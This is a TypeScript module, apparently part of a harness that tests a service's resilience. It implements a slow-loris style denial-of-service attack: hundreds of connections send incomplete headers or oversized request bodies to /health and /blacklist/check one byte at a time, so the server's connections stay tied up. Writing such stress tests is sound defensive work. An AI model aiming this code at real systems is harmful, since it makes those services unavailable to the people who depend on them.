import type { Socket } from "node:net";
import { type Attack, type Cause, credentialsOf, headOf } from "./cause.ts";
import { type Crowd, gather } from "./crowd.ts";

const heads = 200;
const bodies = 200;
/** How often each connection sends a byte. */
const byteMs = 100;
const tickMs = 5;
const byte = Buffer.from("x");

/** Connections that never come to an end of what they send: heads, and bodies with a key and without. */
export function trickle(cause: Cause): Attack {
  let begun = 0;
  const crowdOf = (connections: number, start: string): Crowd =>
    gather({
      port: cause.port,
      connections,
      reads: true,
      onOpen(socket) {
        begun += 1;
        socket.write(start);
      },
    });
  const type = { "Content-Type": "application/json", "Content-Length": "10000" };
  const crowds = [
    crowdOf(heads, headOf(cause, "GET /health", { "X-Long": "" }).slice(0, -4)),
    crowdOf(bodies / 2, headOf(cause, "POST /blacklist/check", { ...credentialsOf(cause), ...type })),
    crowdOf(bodies / 2, headOf(cause, "POST /blacklist/check", type)),
  ];
  const timer = setInterval(createRound(crowds), tickMs);
  return {
    requests: () => begun,
    close() {
      clearInterval(timer);
      for (const crowd of crowds) crowd.close();
    },
  };
}

/** @returns sends a byte on the next few connections, so that each gets one in its time and not all get it at once */
function createRound(crowds: readonly Crowd[]): () => void {
  let left: Socket[] = [];
  let each = 0;
  return () => {
    if (left.length === 0) {
      left = crowds.flatMap(({ sockets }) => [...sockets]);
      each = Math.ceil((left.length * tickMs) / byteMs);
    }
    for (const socket of left.splice(0, each)) if (socket.writable) socket.write(byte);
  };
}
